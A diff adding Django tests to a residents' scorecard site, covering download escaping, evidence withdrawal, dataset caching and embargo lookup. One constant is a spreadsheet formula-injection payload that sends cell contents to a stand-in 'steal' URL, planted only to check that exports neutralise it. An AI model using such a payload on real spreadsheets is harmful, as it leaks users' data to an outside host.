@@ -368,3 +368,154 @@ def test_a_cached_page_follows_a_new_licence_and_a_correction(client, published,
         ratings={("riverside", 3): "met"},
     )
     assert "100.0%" in _text(client.get(url))
+
+
+# ---------------------------------------------------------------------------------------------
+# Typed text in downloads, withdrawals, the open dataset's caching
+
+FORMULA = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'
+
+
+def _csv_cells(content: bytes) -> list[str]:
+    text = content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _xlsx_cells(content: bytes) -> list:
+    workbook = load_workbook(io.BytesIO(content))
+    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+
+
+def _formulas_kept_as_text(content: bytes, fmt: str) -> bool:
+    """The typed formula is in the file, and only as text."""
+    if fmt == "csv":
+        cells = _csv_cells(content)
+        return "'" + FORMULA in cells and FORMULA not in cells
+    found = [cell for cell in _xlsx_cells(content) if cell.value == FORMULA]
+    return bool(found) and all(cell.data_type == "s" for cell in found)
+
+
+def test_typed_formulas_stay_text_in_every_download(client, published):
+    from residentvoice.publication.models import CommitmentResult, LandlordResult
+    from residentvoice.publication.report import report_build
+
+    # What people typed, as published: a landlord's name, a reason, a comment and a practice.
+    LandlordResult.objects.filter(publication=published, landlord_slug="hillside").update(
+        landlord_name=FORMULA
+    )
+    row = CommitmentResult.objects.get(
+        publication=published, landlord__landlord_slug="riverside", commitment_number=1
+    )
+    row.rationale = FORMULA
+    row.residents = {**row.residents, "comments": [{"id": 1, "text": FORMULA}]}
+    row.save()
+    practice = {
+        "id": 1,
+        "title": "Residents chair the panel",
+        "description": FORMULA,
+        "evidence": "",
+        "evidence_url": "",
+        "how_residents_involved": "",
+        "commitments": [1],
+        "landlords": [{"slug": "riverside", "name": "Riverside Homes"}],
+        "is_demo": False,
+    }
+    Publication.objects.filter(pk=published.pk).update(practices=[practice])
+    downloads = [
+        ("publication:overview-download", [YEAR]),
+        ("publication:landlord-download", [YEAR, "riverside"]),
+        ("publication:commitment-download", [YEAR, 1]),
+        ("publication:practices-download", [YEAR]),
+    ]
+    for name, args in downloads:
+        for fmt in ("csv", "xlsx"):
+            response = client.get(reverse(name, args=[*args, fmt]))
+            assert _formulas_kept_as_text(response.content, fmt), (name, fmt)
+    archive = zipfile.ZipFile(
+        io.BytesIO(client.get(reverse("publication:dataset", args=["zip"])).content)
+    )
+    for name in ("results.csv", "comments.csv", "practices.csv", "landlords.csv"):
+        assert _formulas_kept_as_text(archive.read(name), "csv"), name
+    report = report_build(YEAR, "xlsx")
+    assert _formulas_kept_as_text(report, "xlsx")
+    reasons = [c for c in _xlsx_cells(report) if c.value == FORMULA]
+    assert len(reasons) >= 3  # the reason, the comment, the landlord's name and the practice
+
+
+def test_a_withdrawal_leaves_no_trace_in_earlier_versions(client, published, people):
+    first = published.results.get(landlord__landlord_slug="riverside", commitment_number=1)
+    file_id = published.files.get().evidence_id
+    services.publication_correct(
+        publication=published,
+        by=people["council_admin"],
+        note="The comment named a resident.",
+        ratings={("riverside", 3): "met"},
+        withdraw_evidence=[e["id"] for e in first.evidence],
+        withdraw_comments=[c["id"] for c in first.residents["comments"]],
+    )
+    gone = [
+        "The panel listened to us.",
+        "Panel terms of reference",
+        "Annual panel report",
+        "Residents chair every panel meeting.",
+        "https://example.org/panel-terms",
+    ]
+    old = _text(client.get("/scorecards/2024-25/versions/1/landlords/riverside/"))
+    assert "You are reading version 1" in old
+    assert not [text for text in gone if text in old]
+    assert "Withdrawn in version 2: The comment named a resident." in old
+    assert reverse("publication:evidence", args=[YEAR, file_id]) not in old
+    # Corrected ratings are not rewritten in the earlier version.
+    assert "94.1%" in old
+    for fmt in ("csv", "xlsx"):
+        response = client.get(
+            reverse("publication:landlord-download-version", args=[YEAR, 1, "riverside", fmt])
+        )
+        assert response.status_code == 200
+        text = (
+            response.content.decode("utf-8-sig")
+            if fmt == "csv"
+            else " ".join(str(c.value) for c in _xlsx_cells(response.content))
+        )
+        assert not [phrase for phrase in gone if phrase in text]
+    new = _text(client.get(reverse("publication:landlord", args=[YEAR, "riverside"])))
+    assert not [text for text in gone if text in new]
+    versions = _text(client.get(reverse("publication:versions", args=[YEAR])))
+    assert "Version 1: 3 withdrawn items replaced there by a notice of the withdrawal" in versions
+    assert client.get(reverse("publication:evidence", args=[YEAR, file_id])).status_code == 404
+
+
+def test_the_open_dataset_is_built_once_per_version_and_answers_304(client, published, people):
+    url = reverse("publication:dataset", args=["json"])
+    first = client.get(url)
+    etag, modified = first["ETag"], first["Last-Modified"]
+    assert etag
+    assert modified
+    again = client.get(url)
+    assert again.content == first.content  # from the cache: even the build time is the same
+    assert client.get(url, headers={"if-none-match": etag}).status_code == 304
+    assert client.get(url, headers={"if-modified-since": modified}).status_code == 304
+    zipped = client.get(reverse("publication:dataset", args=["zip"]))
+    assert zipped["ETag"] != etag
+    services.publication_correct(
+        publication=published,
+        by=people["council_admin"],
+        note="Fix",
+        ratings={("riverside", 3): "met"},
+    )
+    changed = client.get(url, headers={"if-none-match": etag})
+    assert changed.status_code == 200
+    assert changed["ETag"] != etag
+    newest = json.loads(changed.content)["years"][-1]
+    assert newest["version"] == 2
+
+
+def test_embargo_viewers_are_found_whatever_the_case_of_their_address(client, ready, people):
+    client.force_login(people["council_admin"])
+    response = client.post(
+        reverse("publication:publish", args=[YEAR]),
+        {"publish_at": "2099-01-01T09:00", "embargo_viewers": "Officer@EXAMPLE.org"},
+    )
+    assert response.status_code == 302
+    publication = Publication.objects.get(reporting_year=YEAR)
+    assert list(publication.embargo_viewers.all()) == [people["landlord_officer"]]
